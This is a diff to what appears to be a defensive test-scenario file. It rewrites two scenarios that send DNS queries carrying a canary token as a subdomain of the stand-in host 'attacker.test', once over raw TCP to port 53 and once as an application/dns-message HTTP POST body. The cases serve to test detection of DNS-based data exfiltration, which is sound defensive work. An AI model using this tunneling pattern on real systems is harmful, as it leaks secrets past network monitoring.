@@ -117,7 +117,7 @@ scenario "dns-two-questions-in-one-write" {
   attempt {
     tcp {
       to    = "203.0.113.53:53"
-      bytes = "\u0000\u0021\u0000\u0001\u0001\u0000\u0000\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u0003llm\u0007example\u0003com\u0000\u0000\u0001\u0000\u0001\u0000\u003A\u0000\u0002\u0001\u0000\u0000\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u001A${canary.token}\u0008attacker\u0004test\u0000\u0000\u0001\u0000\u0001"
+      bytes_base64 = [question("llm.example.com", "A"), question("${canary.token}.attacker.test", "A")]
     }
   }
   expect {
@@ -248,7 +248,7 @@ scenario "dns-message-as-a-body" {
       method  = "POST"
       url     = "https://echo.example.com/v1/items/1"
       headers = { Content-Type = "application/dns-message" }
-      body    = "\u0000\u0001\u0001\u0000\u0000\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u001A${canary.token}\u0008attacker\u0004test\u0000\u0000\u0001\u0000\u0001"
+      body_base64 = question("${canary.token}.attacker.test", "A")
     }
   }
   expect {
